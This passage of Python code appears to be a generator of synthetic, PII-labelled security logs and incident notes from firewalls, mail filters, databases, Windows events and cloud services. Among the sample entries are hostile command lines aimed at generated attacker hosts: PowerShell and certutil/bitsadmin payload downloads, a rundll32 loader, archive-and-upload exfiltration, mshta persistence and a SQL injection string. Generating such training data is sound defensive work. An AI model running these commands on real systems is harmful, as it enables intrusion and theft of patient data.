            d.t(", " if i and indent else ("," if i else ""))
            jval(d, x, indent, level)
        d.t("]")
    elif isinstance(v, bool):
        d.t("true" if v else "false")
    elif isinstance(v, (int, float)):
        d.t(str(v))
    elif v is None:
        d.t("null")
    else:
        jstr(d, v)


def OBJ(*pairs):
    return ["__obj__"] + list(pairs)

# --------------------------------------------------------------------------- styles: security logs
def st_umbrella(w):
    d = Doc()
    d.t('"Timestamp","Most Granular Identity","Identities","Identity Types","Internal IP","External IP","Action","QueryType","ResponseCode","Domain","Categories"\n')
    ppl = [w.person() for _ in range(3)]
    for _ in range(w.rng.randint(6, 11)):
        p = w.rng.choice(ppl)
        h = w.host()
        d.t('"').put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t('","')
        if w.rng.random() < 0.5:
            d.put(nm(p)).t(" (").put(nm(p, "email")).t(')","')
        else:
            d.put(I(h, "HOSTNAME")).t('","')
        d.put(I(h, "HOSTNAME")).t(",").put(nm(p)).t(" (").put(nm(p, "email")).t('),Site ' + w.short + '","Anyconnect Roaming Client,AD Users,Sites","')
        d.put(I(w.pip(), "IP")).t('","').put(I(w.egress, "IP")).t('","')
        if w.rng.random() < 0.45:
            d.t('Blocked","1 (A)","NOERROR","').put(w.adom()).t('.","Malware,Newly Seen Domains"\n')
        else:
            d.t('Allowed","28 (AAAA)","NOERROR","' + w.benign() + '.","Software/Technology,Business Services"\n')
    return d


def st_mimecast(w):
    d = Doc()
    for _ in range(w.rng.randint(4, 7)):
        p = w.person()
        d.t("datetime=").put(N(w.ts(z="+0000"), "TIMESTAMP")).t("|aCode=").t(ind.hexstr(w.rng, 8)).t("|acc=C").t(str(w.rng.randint(10000, 99999)))
        d.t("|sender=").put(w.amail()).t("|rcptTo=").put(nm(p, "email")).t("|url=").put(w.aurl())
        d.t("|route=inbound|urlCategory=Phishing & Fraud|action=Block|scanResult=malicious|userOverride=None|subject=")
        d.t(w.rng.choice(["Voicemail received for ", "Payroll update - ", "Shared: Scan from "])).put(nm(p)).t("\n")
    p = w.person()
    d.t("datetime=").put(N(w.ts(z="+0000"), "TIMESTAMP")).t("|sender=").put(nm(p, "email")).t("|rcptTo=").put(I(f"{ind.slug(p.first)}{w.rng.randint(1,99)}@gmail.com", "EMAIL"))
    d.t("|url=https://www.dropbox.com/scl/fi/x/Referral.pdf|route=outbound|action=Allow|scanResult=clean|subject=Forward to personal - ").put(nm(p, "last")).t("\n")
    return d


def st_abnormal(w):
    d = Doc()
    p, q = w.person(), w.person()
    att = w.amail()
    jobj(d, [("caseId", str(w.rng.randint(100000, 999999))), ("severity", "Vendor Email Compromise"),
             ("affectedEmployee", I(p.full, "NAME")), ("affectedEmployeeEmail", I(p.email, "EMAIL")),
             ("firstObserved", N(w.ts(), "TIMESTAMP")), ("threatIds", [ind.hexstr(w.rng, 8) + "-" + ind.hexstr(w.rng, 4)]),
             ("messages", [OBJ(("fromAddress", att), ("fromName", f"{w.org} Payroll"), ("toAddresses", [I(p.email, "EMAIL"), I(q.email, "EMAIL")]),
                               ("subject", "Direct deposit change request"), ("senderIpAddress", w.aip()), ("returnPath", w.amail(False)),
                               ("urls", [w.aurl()]), ("attachmentNames", ["W-2_" + q.last + ".pdf"]),
                               ("summaryInsights", ["Unusual Sender", "Suspicious Link", "Impersonation of " + q.full]))]),
             ("remediationStatus", "Auto-Remediated"), ("remediatedBy", I(w.person().user, "USER"))], indent=2)
    return d


def st_epo(w):
    d = Doc()
    d.t("Event Received Time\tEvent Generated Time\tThreat Name\tThreat Type\tThreat Target Host Name\tThreat Target User Name\tThreat Target IPv4 Address\tThreat Source IPv4 Address\tThreat Target File Path\tAction Taken\n")
    for _ in range(w.rng.randint(5, 9)):
        p = w.person()
        h = w.host()
        d.put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t("\t").put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t("\t")
        d.put(w.malware() if w.rng.random() < 0.5 else w.ransom()).t("\ttrojan\t").put(I(h, "HOSTNAME")).t("\t").put(I(f"{w.ad}\\{p.user}", "USER")).t("\t")
        d.put(I(w.pip(), "IP")).t("\t").put(w.aip()).t("\tC:\\Users\\").put(I(p.user, "USER")).t("\\AppData\\Local\\Temp\\")
        d.t(w.rng.choice(["invoice_", "scan_", "labs_"])).t(str(w.rng.randint(100, 999))).t(".exe\t").t(w.rng.choice(["Deleted", "Would Block", "Access Denied", "Cleaned"])).t("\n")
    return d


def st_sep(w):
    d = Doc()
    for _ in range(w.rng.randint(4, 7)):
        p = w.person()
        h = w.host()
        d.put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t(",Virus found,IP Address: ").put(I(w.pip(), "IP")).t(",Computer name: ").put(I(h, "HOSTNAME"))
        d.t(",Source: Auto-Protect scan,Risk name: ").put(w.malware()).t(",Occurrences: 1,File path: C:\\Users\\").put(I(p.user, "USER"))
        d.t("\\Downloads\\Lab_Results_").put(I(w.person().last, "NAME")).t(".pdf.js,Description: ,Actual action: Quarantined,Requested action: Cleaned,Secondary action: Quarantined,Event time: ")
        d.put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t(",Inserted: ").put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t(",End: ").put(N(w.ts(sep=" ", z=""), "TIMESTAMP"))
        d.t(",Domain: Default,Group: My Company\\" + w.short + "\\Workstations,Server: ").put(I(w.srv(), "HOSTNAME")).t(",User: ").put(I(p.user, "USER"))
        d.t(",Source computer: ,Source IP: ,Disposition: Bad,Download site: ").put(w.aurl()).t(",Web domain: ,Downloaded by: chrome.exe,SHA-256 Hash: ").put(X(ind.sha256(w.rng).lower(), "SHA256")).t("\n")
    return d


def st_secretserver(w):
    d = Doc()
    d.t("Date Recorded,User,Action,Secret Name,Folder,IP Address,Machine,Notes\n")
    admin = w.person()
    for _ in range(w.rng.randint(6, 10)):
        p = w.rng.choice([admin, w.person()])
        d.put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t(",").put(I(f"{w.ad.lower()}\\{p.user}", "USER")).t(",")
        d.t(w.rng.choice(["VIEW", "CHECKOUT", "PASSWORD DISPLAYED", "COPY PASSWORD", "LAUNCH"])).t(",")
        d.put(I(w.srv(), "HOSTNAME")).t(" - local admin,\\IT\\Servers,").put(I(w.pip(), "IP")).t(",").put(I(w.host(), "HOSTNAME")).t(",")
        d.t(w.rng.choice(["", "ticket INC0" + str(w.rng.randint(10000, 99999)), "Mark asked for this", "patching window"])).t("\n")
    d.put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t(",").put(I(f"{w.ad.lower()}\\{admin.user}", "USER")).t(",CHECKOUT,Domain Admin - break glass,\\IT\\Tier0,").put(w.aip()).t(",,login from unknown location; session via ").put(w.malware()).t("?\n")
    return d


def st_pwmanager(w):
    d = Doc()
    ppl = [w.person() for _ in range(3)]
    for _ in range(w.rng.randint(5, 8)):
        p = w.rng.choice(ppl)
        bad = w.rng.random() < 0.35
        jobj(d, [("uuid", ind.hexstr(w.rng, 26).upper()), ("timestamp", N(w.ts(), "TIMESTAMP")),
                 ("category", "success" if not bad else "credentials_failed"), ("type", w.rng.choice(["mfa_ok", "password_secret_bad", "item_usage"])),
                 ("target_user", OBJ(("uuid", ind.hexstr(w.rng, 26).upper()), ("name", I(p.full, "NAME")), ("email", I(p.email, "EMAIL")))),
                 ("client", OBJ(("app_name", "1Password Browser Extension"), ("app_version", "20280" + str(w.rng.randint(10, 99))),
                                ("platform_name", "Chrome"), ("os_name", "Windows"),
                                ("ip_address", w.aip() if bad else I(w.egress, "IP")))),
                 ("location", OBJ(("country", "RO" if bad else w.cc), ("city", "Bucharest" if bad else I(w.rng.choice(w.cities), "CITY"))))])
        d.t("\n")
    return d


def st_ringcentral(w):
    d = Doc()
    d.t("Type,Phone Number,Name,Date,Time,Action,Action Result,Result Description,Duration,Included,Purchased\n")
    staff = [w.person() for _ in range(2)]
    for _ in range(w.rng.randint(6, 10)):
        k = w.rng.random()
        y = w.recent()
        if k < 0.35:
            d.t("Voice,").put(w.aphone()).t(",IRS SPOOF,") if w.rng.random() < 0.2 else d.t("Voice,").put(w.aphone()).t(",WIRELESS CALLER,")
        else:
            pt = w.person()
            d.t("Voice,").put(I(w.phone(), "PHONE")).t(",").put(I(f"{pt.last.upper()} {pt.first.upper()}", "NAME")).t(",")
        d.put(N(w.d(y, 1), "DATE")).t(",").put(N(f"{w.rng.randint(1, 12)}:{w.rng.randint(0, 59):02d} {w.rng.choice(['AM', 'PM'])}", "TIME")).t(",")
        d.t(w.rng.choice(["Phone Call", "Incoming", "Outgoing"])).t(",Call connected,Accepted - ext. ").t(str(w.rng.randint(100, 299))).t(" ")
        d.put(nm(w.rng.choice(staff))).t(",0:0").t(str(w.rng.randint(0, 9))).t(":").t(f"{w.rng.randint(0, 59):02d}").t(",,\n")
    d.t("\nNote: the 3 calls from ").put(w.aphone()).t(' asked front desk for the "verification code" sent to ').put(nm(staff[0], "first")).t("'s phone ").put(I(w.phone(), "PHONE")).t(".\n")
    return d


def st_tomcat(w):
    d = Doc()
    p = w.person()
    for _ in range(w.rng.randint(4, 7)):
        att = w.rng.random() < 0.5
        d.put(w.aip() if att else I(w.pip(), "IP")).t(" - ").put(I(p.user, "USER") if not att else "-").t(" [").put(N(f"{w.rng.randint(1, 28):02d}/Nov/2026:{w.rng.randint(0, 23):02d}:{w.rng.randint(0, 59):02d}:{w.rng.randint(0, 59):02d} +0000", "TIMESTAMP")).t("] \"")
        if att:
            d.t("POST /manager/html/upload?org.apache.catalina.filters.CSRF_NONCE=" + ind.hexstr(w.rng, 32).upper() + " HTTP/1.1\" 200 ").t(str(w.rng.randint(1000, 9000))).t("\n")
        else:
            pt = w.person()
            d.t("GET /portal/patient/summary?mrn=").put(I(w.mrn(), "MRN")).t("&lastName=").put(I(pt.last, "NAME")).t(" HTTP/1.1\" 200 ").t(str(w.rng.randint(1000, 9000))).t("\n")
    d.t("\n").put(N(f"{w.rng.randint(1, 28):02d}-Nov-2026 {w.rng.randint(0, 23):02d}:{w.rng.randint(0, 59):02d}:11.402", "TIMESTAMP")).t(" INFO [http-nio-8443-exec-7] org.apache.catalina.startup.HostConfig.deployWAR Deploying web application archive [/opt/tomcat/webapps/")
    d.t(w.rng.choice(["status", "cmd", "help"])).t(".war]\n").put(N(f"{w.rng.randint(1, 28):02d}-Nov-2026 {w.rng.randint(0, 23):02d}:{w.rng.randint(0, 59):02d}:12.010", "TIMESTAMP")).t(" SEVERE [http-nio-8443-exec-2] o.a.c.c.StandardWrapperValve.invoke Servlet.service() for servlet [jsp] threw exception java.net.ConnectException: Connection refused (")
    d.put(w.aip()).t(":4444)\n").t("    at java.base/sun.nio.ch.Net.connect0(Native Method)\n    at com.").t(w.short.lower()).t(".portal.ReferralServlet.doGet(ReferralServlet.java:88)\n")
    return d


def st_mysql(w):
    d = Doc()
    d.t("/usr/sbin/mysqld, Version: 8.0.39 (MySQL Community Server - GPL). started with:\nTcp port: 3306  Unix socket: /var/run/mysqld/mysqld.sock\nTime                 Id Command    Argument\n")
    u = w.person()
    for i in range(w.rng.randint(4, 7)):
        cid = str(w.rng.randint(100, 9999))
        d.put(N(w.ts(z="Z").replace("Z", f".{w.rng.randint(100000, 999999)}Z"), "TIMESTAMP")).t(f"\t   {cid} ")
        k = w.rng.random()
        if k < 0.25:
            d.t("Connect\t").put(I(u.user, "USER")).t("@").put(I(w.host(), "HOSTNAME")).t(" on emr using TCP/IP\n")
        elif k < 0.75:
            pt = w.person()
            d.t("Query\tSELECT * FROM patients WHERE last_name = '").put(I(pt.last, "NAME")).t("' AND first_name = '").put(I(pt.first, "NAME")).t("' AND dob = '").put(I(w.d(w.dob(), 0), "DATE")).t("'\n")
        else:
            pt = w.person()
            st, city, z = w.addr()
            d.t("Query\tUPDATE demographics SET addr1='").put(I(st, "ADDRESS")).t("', city='").put(I(city, "CITY")).t("', phone='").put(I(w.phone(), "PHONE")).t("' WHERE mrn='").put(I(w.mrn(), "MRN")).t("'\n")
    d.put(N(w.ts(), "TIMESTAMP")).t("\t   9911 Connect\troot@").put(w.aip()).t(" on  using TCP/IP\n").put(N(w.ts(), "TIMESTAMP")).t("\t   9911 Query\tSELECT * INTO OUTFILE '/tmp/pt_dump.csv' FROM patients\n")
    return d


def st_mongodb(w):
    d = Doc()
    for _ in range(w.rng.randint(3, 6)):
        att = w.rng.random() < 0.4
        jobj(d, [("t", OBJ(("$date", N(w.ts().replace("Z", ".512+00:00"), "TIMESTAMP")))), ("s", "I"), ("c", "NETWORK"), ("id", 22943), ("ctx", "listener"),
                 ("msg", "Connection accepted"), ("attr", OBJ(("remote", w.aip() if att else I(w.pip(), "IP")), ("connectionId", w.rng.randint(100, 9999)), ("connectionCount", w.rng.randint(1, 60))))])
        d.t("\n")
        if att:
            jobj(d, [("t", OBJ(("$date", N(w.ts().replace("Z", ".713+00:00"), "TIMESTAMP")))), ("s", "I"), ("c", "ACCESS"), ("id", 20250), ("ctx", "conn" + str(w.rng.randint(100, 999))),
                     ("msg", "Authentication succeeded"), ("attr", OBJ(("mechanism", "SCRAM-SHA-256"), ("principalName", I(w.person().user, "USER")), ("authenticationDatabase", "admin"), ("remote", w.aip())))])
            d.t("\n")
    pt = w.person()
    jobj(d, [("t", OBJ(("$date", N(w.ts().replace("Z", ".101+00:00"), "TIMESTAMP")))), ("s", "I"), ("c", "COMMAND"), ("id", 51803), ("ctx", "conn812"), ("msg", "Slow query"),
             ("attr", OBJ(("type", "command"), ("ns", "intake.patients"), ("command", OBJ(("find", "patients"), ("filter", OBJ(("name.family", I(pt.last, "NAME")), ("name.given", I(pt.first, "NAME")), ("birthDate", I(w.d(w.dob(), 0), "DATE")))))), ("durationMillis", w.rng.randint(100, 3000))))])
    d.t("\n")
    return d


def st_es_audit(w):
    d = Doc()
    for _ in range(w.rng.randint(4, 7)):
        p = w.person()
        att = w.rng.random() < 0.3
        jobj(d, [("type", "audit"), ("timestamp", N(w.ts().replace("Z", ",118+0000"), "TIMESTAMP")), ("node.name", I(w.srv(), "HOSTNAME")),
                 ("event.type", "rest"), ("event.action", "authentication_failed" if att else "access_granted"),
                 ("user.name", "elastic" if att else I(p.user, "USER")), ("user.realm", w.ad.lower() + "_ad"),
                 ("origin.type", "rest"), ("origin.address", (w.aip() if att else I(w.pip(), "IP"))), ("url.path", "/patient-notes-*/_search"),
                 ("request.body", "{\"query\":{\"match_all\":{}}}" if not att else "{\"size\":10000}")])
        d.t("\n")
    pt = w.person()
    d.t('{"type":"audit","timestamp":').put(N('"' + w.ts() + '"', "TIMESTAMP")).t(',"event.action":"access_granted","user.name":"')
    d.put(I(w.person().user, "USER")).t('","request.body":"{\\"query\\":{\\"match_phrase\\":{\\"patient.name\\":\\"').put(I(pt.full, "NAME")).t('\\"}}}"}\n')
    return d


def st_sumo(w):
    d = Doc()
    d.t('"_messagetime","_sourcehost","_sourcecategory","_raw"\n')
    for _ in range(w.rng.randint(5, 8)):
        p = w.person()
        h = w.host()
        d.t('"').put(N(str(w.rng.randint(1780000000000, 1790000000000)), "EPOCH")).t('","').put(I(h, "HOSTNAME")).t('","prod/windows/security","')
        k = w.rng.random()
        if k < 0.5:
            d.t("An account failed to log on. Account Name: ").put(I(p.user, "USER")).t(" Workstation Name: ").put(I(h.split(".")[0].upper(), "HOSTNAME")).t(" Source Network Address: ").put(w.aip()).t('"\n')
        else:
            d.t("Process Create: User: ").put(I(f"{w.ad}\\{p.user}", "USER")).t(" CommandLine: powershell -nop -w hidden -c iwr ").put(w.aurl()).t(' -o $env:TEMP\\a.ps1"\n')
    return d


def st_awswaf(w):
    d = Doc()
    pt = w.person()
    for _ in range(w.rng.randint(2, 4)):
        jobj(d, [("timestamp", N(str(w.rng.randint(1780000000000, 1790000000000)), "EPOCH")), ("formatVersion", 1), ("webaclId", "arn:aws:wafv2:us-east-1:" + str(w.rng.randint(10**11, 10**12 - 1)) + ":regional/webacl/portal-acl/" + ind.hexstr(w.rng, 8)),
                 ("terminatingRuleId", "AWS-AWSManagedRulesSQLiRuleSet"), ("action", "BLOCK"),
                 ("httpRequest", OBJ(("clientIp", w.aip()), ("country", w.rng.choice(["NL", "RU", "VN", "US"])),
                                     ("headers", [OBJ(("name", "Host"), ("value", I("portal." + w.domain, "HOSTNAME"))), OBJ(("name", "User-Agent"), ("value", "sqlmap/1.8.4#stable (https://sqlmap.org)"))]),
                                     ("uri", "/api/appointments"), ("args", "patient=" + str(w.rng.randint(1, 9)) + "%27%20OR%201%3D1--"), ("httpMethod", "GET")))])
        d.t("\n")
    jobj(d, [("timestamp", N(str(w.rng.randint(1780000000000, 1790000000000)), "EPOCH")), ("action", "ALLOW"),
             ("httpRequest", OBJ(("clientIp", I(ind.public_ipv4(w.rng), "IP")), ("country", w.cc), ("uri", "/api/appointments/confirm"),
                                 ("args", "confirm=1"), ("httpMethod", "POST"))), ("labels", [OBJ(("name", "patientEmail"), ("value", I(ind.slug(pt.first) + str(w.rng.randint(1, 99)) + "@gmail.com", "EMAIL")))])])
    d.t("\n")
    return d


def st_s3access(w):
    d = Doc()
    owner = ind.hexstr(w.rng, 64)
    bucket = f"{w.short.lower()}-scans-archive"
    for _ in range(w.rng.randint(4, 7)):
        pt = w.person()
        att = w.rng.random() < 0.4
        d.t(owner + " " + bucket + " [").put(N(f"{w.rng.randint(1, 28):02d}/Oct/2026:{w.rng.randint(0, 23):02d}:{w.rng.randint(0, 59):02d}:{w.rng.randint(0, 59):02d} +0000", "TIMESTAMP")).t("] ")
        d.put(w.aip() if att else I(w.egress, "IP")).t(" arn:aws:iam::" + str(w.rng.randint(10**11, 10**12 - 1)) + ":user/").put(I(w.person().user, "USER"))
        d.t(" " + ind.hexstr(w.rng, 16).upper() + " REST.GET.OBJECT intake/").put(I(w.mrn(), "MRN")).t("/").put(I(f"{pt.last}_{pt.first}", "NAME")).t("_consent.pdf \"GET /")
        d.t(bucket + "/intake/... HTTP/1.1\" 200 - " + str(w.rng.randint(20000, 900000)) + " - 41 40 \"-\" \"" + ("rclone/v1.67.0" if att else "aws-cli/2.17.3") + "\" - SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader s3.amazonaws.com TLSv1.2 - -\n")
    return d


def st_nsgflow(w):
    d = Doc()
    tuples = []
    for _ in range(w.rng.randint(4, 8)):
        tuples.append(w.rng.random() < 0.5)
    d.t('{\n  "records": [\n    {\n      "time": ').put(N('"' + w.ts().replace("Z", ".3301512Z") + '"', "TIMESTAMP")).t(',\n      "systemId": "' + ind.hexstr(w.rng, 8) + '-' + ind.hexstr(w.rng, 4) + '",\n      "macAddress": "' + ind.hexstr(w.rng, 12).upper() + '",\n      "category": "NetworkSecurityGroupFlowEvent",\n      "resourceId": "/SUBSCRIPTIONS/' + ind.hexstr(w.rng, 8).upper() + '/RESOURCEGROUPS/RG-' + w.short + '-PROD/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/')
    d.put(I(f"NSG-{w.short}-EHRWEB01", "HOSTNAME")).t('",\n      "operationName": "NetworkSecurityGroupFlowEvents",\n      "properties": {"Version": 2, "flows": [{"rule": "DefaultRule_AllowInternetOutBound", "flows": [{"mac": "000D3A' + ind.hexstr(w.rng, 6).upper() + '", "flowTuples": [')
    for i, out in enumerate(tuples):
        d.t(", " if i else "").t('"').put(N(str(w.rng.randint(1780000000, 1790000000)), "EPOCH")).t(",")
        if out:
            d.put(I(w.pip(), "IP")).t(",").put(w.aip()).t(f",{w.rng.randint(49152, 65535)},443,T,O,A,B,,,")
        else:
            d.put(w.aip()).t(",").put(I(w.pip(), "IP")).t(f",{w.rng.randint(1024, 65535)},{w.rng.choice([3389, 22, 445])},T,I,D,B,,,")
        d.t('"')
    d.t("]}]}]}\n    }\n  ]\n}\n")
    return d


def st_caddy(w):
    d = Doc()
    for _ in range(w.rng.randint(4, 7)):
        att = w.rng.random() < 0.45
        pt = w.person()
        uri = None
        jobj(d, [("level", "info"), ("ts", N(f"{w.rng.randint(1780000000, 1790000000)}.{w.rng.randint(100000, 999999)}", "EPOCH")), ("logger", "http.log.access.log0"), ("msg", "handled request"),
                 ("request", OBJ(("remote_ip", w.aip() if att else I(ind.public_ipv4(w.rng), "IP")), ("remote_port", str(w.rng.randint(1024, 65535))), ("proto", "HTTP/2.0"), ("method", "GET"),
                                 ("host", I("booking." + w.domain, "HOSTNAME")),
                                 ("uri", "/.env" if att else "/confirm"),
                                 ("headers", OBJ(("User-Agent", ["Mozilla/5.0 (zgrab/0.x)" if att else "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X)"]), ("Referer", [w.aurl()] if att else ["https://mail.google.com/"]))))),
                 ("user_id", "" if att else I(pt.email.split("@")[0] if False else ind.slug(pt.first) + "." + ind.slug(pt.last) + "@yahoo.com", "EMAIL")),
                 ("duration", round(w.rng.random(), 6)), ("size", w.rng.randint(100, 9000)), ("status", 404 if att else 200)])
        d.t("\n")
    return d


def st_taskhistory(w):
    d = Doc()
    p = w.person()
    h = w.host()
    tn = w.rng.choice(["\\Microsoft\\Windows\\UpdateOrchestrator\\USO_UxBroker2", "\\GoogleUpdateTaskMachineQC", "\\OneDrive Sync Health", "\\Adobe Acrobat Update Task2"])
    d.t("Level\tDate and Time\tSource\tEvent ID\tTask Category\n")
    rows = [("Information", "106", "Task registered", ["User \"", I(f"{w.ad}\\{p.user}", "USER"), "\"  registered Task Scheduler task \"" + tn + "\""]),
            ("Information", "200", "Action started", ["Task Scheduler launched action \"C:\\Users\\", I(p.user, "USER"), "\\AppData\\Roaming\\svc\\rundll32.exe\" in instance \"{" + ind.hexstr(w.rng, 8) + "}\" of task \"" + tn + "\"."]),
            ("Information", "129", "Created Task Process", ["Task Scheduler launch task \"" + tn + "\" , instance \"C:\\Windows\\System32\\rundll32.exe\"  with process ID " + str(w.rng.randint(1000, 9999)) + "."]),
            ("Warning", "153", "Missing task engine", ["Task Scheduler did not launch task \"" + tn + "\" because computer ", I(h, "HOSTNAME"), " is on batteries."]),
            ("Information", "140", "Task registration updated", ["User \"", I(f"{w.ad}\\{w.person().user}", "USER"), "\"  updated Task Scheduler task \"\\Brown-out recovery check\""]),
            ("Information", "201", "Action completed", ["Task Scheduler successfully completed task \"" + tn + "\" , instance \"{" + ind.hexstr(w.rng, 8) + "}\" , action \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc ... (beacon ", w.aip(), ")\" with return code 0."])]
    for lvl, eid, cat, parts in rows:
        d.t(lvl + "\t").put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t("\tMicrosoft-Windows-TaskScheduler\t" + eid + "\t" + cat + "\n\t")
        for x in parts:
            d.put(x)
        d.t("\n")
    d.t("\nexported from ").put(I(h, "HOSTNAME")).t(" by ").put(nm(w.person(), "init")).t(" for the ticket; ").put(w.mitre()).t("\n")
    return d


def st_ps4104(w):
    d = Doc()
    p = w.person()
    h = w.host("lt")
    d.t("Log Name:      Microsoft-Windows-PowerShell/Operational\nSource:        Microsoft-Windows-PowerShell\nDate:          ").put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t("\nEvent ID:      4104\nTask Category: Execute a Remote Command\nLevel:         Warning\nUser:          ")
    d.put(I(f"{w.ad}\\{p.user}", "USER")).t("\nComputer:      ").put(I(h, "HOSTNAME")).t("\nDescription:\nCreating Scriptblock text (1 of 1):\n")
    d.t("$wc = New-Object Net.WebClient; $wc.Headers.Add('User-Agent','Mozilla/5.0');\n$u = '").put(w.aurl()).t("'\n$d = \"$env:APPDATA\\Microsoft\\").t(w.rng.choice(["ntuser.dat.LOG3", "mscache.bin"])).t("\"\n")
    d.t("$wc.DownloadFile($u,$d); Start-Process rundll32 -ArgumentList \"$d,DllRegisterServer\"\n")
    d.t("Get-ChildItem \\\\").put(I(w.srv(), "HOSTNAME")).t("\\Scans\\").put(I(w.person().last, "NAME")).t("* | Compress-Archive -DestinationPath C:\\Users\\").put(I(p.user, "USER")).t("\\Music\\x.zip\n")
    d.t("Invoke-RestMethod -Uri https://").put(w.adom()).t("/up -Method Put -InFile C:\\Users\\").put(I(p.user, "USER")).t("\\Music\\x.zip\n\nScriptBlock ID: " + ind.hexstr(w.rng, 8) + "-" + ind.hexstr(w.rng, 4) + "-" + ind.hexstr(w.rng, 4) + "\nPath: \n")
    d.t("\nhash of the dropped dll: ").put(w.hash()).t(" (matches ").put(w.malware()).t(")\n")
    return d


def st_wmi(w):
    d = Doc()
    h = w.host()
    p = w.person()
    name = w.rng.choice(["SCM Event Log Consumer2", "WinMgmtHealth", "Updater"])
    d.t("PS C:\\> Get-WmiObject -Namespace root\\subscription -Class CommandLineEventConsumer -ComputerName ").put(I(h, "HOSTNAME")).t("\n\n__GENUS              : 2\n__CLASS              : CommandLineEventConsumer\n__SERVER             : ")
    d.put(I(h.split(".")[0].upper(), "HOSTNAME")).t("\nCommandLineTemplate  : cmd /c mshta ").put(w.aurl()).t("\nCreatorSID           : {1, 5, 0, 0...}\nName                 : " + name + "\n\n")
    d.t("Event 5861, WMI-Activity: Namespace = //./root/subscription; Eventfilter = BVTFilter (refer to its activate eventid:5859); Consumer = CommandLineEventConsumer=\"" + name + "\"; PossibleCause = Binding EventFilter: instance of __EventFilter { CreatorSID = ...; Name = \"BVTFilter\"; Query = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"; };\n")
    d.t("Logged: ").put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t("  User: ").put(I(f"{w.ad}\\{p.user}", "USER")).t("\n\nremoved by ").put(nm(w.person())).t(", technique ").put(X("T1546.003", "ATTACK_ID")).t("\n")
    return d


def st_lolbin(w):
    d = Doc()
    p, a = w.person(), w.person()
    h = w.host()
    d.t("Triage – ").put(I(h, "HOSTNAME")).t(" (").put(I(w.pip(), "IP")).t(")\nanalyst: ").put(I(a.user, "USER")).t("\n\n4688 command lines, user ").put(I(p.user, "USER")).t(" (").put(nm(p)).t(", reception):\n")
    d.t("  certutil.exe -urlcache -split -f ").put(w.aurl()).t(" C:\\ProgramData\\a.txt\n")
    d.t("  certutil -decode C:\\ProgramData\\a.txt C:\\ProgramData\\svch0st.exe\n")
    d.t("  bitsadmin /transfer job1 /download /priority high ").put(w.aurl()).t(" %TEMP%\\u.dll\n")
    d.t("  rundll32.exe %TEMP%\\u.dll,Start\n  cmd /c ping -n 1 ").put(w.adom()).t("\n\nsvch0st.exe = ").put(w.hash()).t("\nu.dll = ").put(w.hash()).t("\n")
    d.t("techniques: ").put(X("T1105", "ATTACK_ID")).t(", ").put(X("T1197", "ATTACK_ID")).t(", ").put(X("T1140", "ATTACK_ID")).t("\n")
    d.t(w.rng.choice(["Will re-image tomorrow.", "hope it's only this box", "Mark as contained."])).t(" ").put(nm(p, "first")).t(" said she clicked a \"missed delivery\" text on her phone too (").put(I(w.phone(), "PHONE")).t(").\n")
    return d


def st_rogueap(w):
    d = Doc()
    site = w.rng.choice(w.cities)
    d.t("Wireless survey / rogue detection export – ").put(O(w)).t(", level 2\nBSSID,SSID,Channel,RSSI,Security,Classification,Clients,First Seen\n")
    for _ in range(w.rng.randint(4, 7)):
        ev = w.rng.random() < 0.35
        d.put(w.mac() if ev else ":".join(f"{w.rng.randint(0, 255):02x}" for _ in range(6))).t(",")
        d.t((w.short + "-Guest" if ev else w.short + "-Clinical") + "," + str(w.rng.choice([1, 6, 11, 36, 149])) + "," + str(-w.rng.randint(35, 85)) + ",")
        d.t(("Open,Rogue (evil twin)," if ev else "WPA2-Enterprise,Managed,") + str(w.rng.randint(0, 14)) + ",").put(N(w.ts(sep=" ", z=""), "TIMESTAMP")).t("\n")
    p = w.person()
    d.t("\nClients associated to the rogue: ").put(I(f"{p.first}s-iPhone", "HOSTNAME")).t(" (").put(nm(p, "user")).t("), ").put(I(w.host("lt"), "HOSTNAME")).t(". Captive portal posted creds to ").put(w.aurl()).t(".\n")
    return d


def st_bankchange(w):
    d = Doc()
    fin, vend = w.person(), w.person("faker")
    att = w.amail(False)
    d.t("From: ").put(nm(fin)).t(" <").put(nm(fin, "email")).t(">\nTo: IT Security\nSubject: FW: Updated remittance details – please action\n\nIs this legit? We pay them monthly. - ").put(nm(fin, "first")).t("\n\n")
    d.t("> From: \"").t(w.rng.choice(["MedLinen Supply", "Accounts – CleanCare Ltd", "OxyPlus Billing"])).t("\" <").put(att).t(">\n> Reply-To: ").put(w.amail(True)).t("\n> Date: ").put(N(w.ts(sep=" ", z=" +0000"), "HEADER_TIME")).t("\n>\n")
    d.t("> Dear ").put(nm(fin, "first")).t(",\n> Due to our annual audit our bank details have changed. Kindly update before the next run:\n> IBAN: ").put(w.iban()).t("\n> BIC: ").put(X(w.rng.choice(["REVOLT21", "HBUKGB4B", "BPKOPLPW"]), "BANK_ATTACKER")).t("\n")
    d.t("> Call our finance desk on ").put(w.aphone()).t(" to confirm.\n> Regards, ").t(vend.full).t("\n\nsender IP from headers: ").put(w.aip()).t("\n")
    return d


# --------------------------------------------------------------------------- styles: public / social / legal
def pt_slots(w, p=None):
    p = p or w.person()
    st, city, z = w.addr()
    return p, dict(pname=nm(p), plast=nm(p, "last"), pfirst=nm(p, "first"), pinit=nm(p, "init"), dob=I(w.d(w.dob()), "DATE"),
                   mrn=I(w.mrn(), "MRN"), street=I(st, "ADDRESS"), city=I(city, "CITY"), zip=I(z, "ZIP") if z else I(w.rng.choice(w.cities), "CITY"),
                   phone=I(w.phone(), "PHONE"), visit=I(w.d(w.recent()), "DATE"), org=O(w), short=I(w.short, "ORG"))


def st_discord(w):
    d = Doc()
    a, b = w.person(), w.person()
